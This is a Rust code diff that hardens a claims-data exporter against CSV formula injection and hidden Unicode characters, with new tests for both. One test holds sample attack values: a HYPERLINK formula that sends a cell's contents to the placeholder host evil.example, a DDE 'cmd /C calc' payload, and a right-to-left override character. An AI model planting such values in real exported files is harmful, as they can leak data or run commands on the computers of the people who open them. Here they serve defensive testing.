@@ -2,6 +2,7 @@
 
 use std::io::Write;
 
+use claims_wire::sheet::{reveal, spreadsheet_cell};
 use claims_wire::{COST_FIELDS, Format, ROW_FIELDS, WireRow, encode_wire_rows};
 use unicode_width::UnicodeWidthStr;
 
@@ -11,7 +12,7 @@ pub enum OutputFormat {
     /// Aligned columns of the fields people look at.
     Table,
     /// Every field; one line per cost line (`cstInfo.*` columns), so a row with one cost
-    /// line is one line.
+    /// line is one line. Safe to open in a spreadsheet: see [`spreadsheet_cell`].
     Csv,
     /// One JSON object per row, shaped like the API's `data` elements.
     Jsonl,
@@ -47,16 +48,24 @@ fn csv(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
     header.extend(COST_FIELDS.iter().map(|name| format!("cstInfo.{name}")));
     writer.write_record(&header)?;
     for row in rows {
-        let fields: Vec<&str> = row.fields().iter().map(|(_, value)| *value).collect();
+        let fields: Vec<_> = row
+            .fields()
+            .iter()
+            .map(|(_, value)| spreadsheet_cell(value))
+            .collect();
         if row.cst_info.is_empty() {
             let mut record = fields.clone();
-            record.extend(std::iter::repeat_n("", COST_FIELDS.len()));
-            writer.write_record(&record)?;
+            record.extend(std::iter::repeat_n("".into(), COST_FIELDS.len()));
+            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
         }
         for cost in &row.cst_info {
             let mut record = fields.clone();
-            record.extend(cost.fields().iter().map(|(_, value)| *value));
-            writer.write_record(&record)?;
+            record.extend(
+                cost.fields()
+                    .iter()
+                    .map(|(_, value)| spreadsheet_cell(value)),
+            );
+            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
         }
     }
     writer.flush()
@@ -102,7 +111,7 @@ fn table(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
         .map(|i| {
             lines
                 .iter()
-                .map(|line| line[i].width().min(40))
+                .map(|line| reveal(&line[i]).width().min(40))
                 .chain([header[i].width()])
                 .max()
                 .unwrap_or(0)
@@ -111,7 +120,7 @@ fn table(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
     let render = |cells: Vec<&str>| -> String {
         let mut line = String::new();
         for (i, cell) in cells.iter().enumerate() {
-            let mut text: String = (*cell).to_owned();
+            let mut text: String = reveal(cell).into_owned();
             if text.width() > 40 {
                 text = text.chars().take(38).collect::<String>() + "…";
             }
@@ -163,6 +172,39 @@ mod tests {
         assert_eq!(&records[0][column("itemNm")], "M&M's, \"대용량\"");
         assert_eq!(&records[0][column("clmRsnCntt")], "두 줄\n사유");
         assert_eq!(&records[0][column("cstInfo.splVenBdnDcAmt")], "500");
+    }
+
+    #[test]
+    fn csv_cells_cannot_act_as_formulas_or_hide_text() {
+        let mut rows = sample();
+        rows[0].ordpe_nm = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+        rows[0].clm_rsn_cntt = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+        rows[0].item_nm = "우유\u{202E}1L".into();
+        let mut out = Vec::new();
+        write_rows(OutputFormat::Csv, &rows, &mut out).unwrap();
+        let mut reader = ::csv::Reader::from_reader(out.as_slice());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+                assert!(!cell.contains('\u{202E}'), "{cell:?}");
+            }
+        }
+        let text = String::from_utf8(out).unwrap();
+        assert!(text.contains("'=HYPERLINK("), "{text}");
+        assert!(text.contains("우유<U+202E>1L"), "{text}");
+    }
+
+    #[test]
+    fn tables_show_hidden_characters() {
+        let mut rows = sample();
+        rows[0].item_nm = "우유\u{200B}1L".into();
+        let mut out = Vec::new();
+        write_rows(OutputFormat::Table, &rows, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert!(text.contains("우유<U+200B>1L"), "{text}");
     }
 
     #[test]
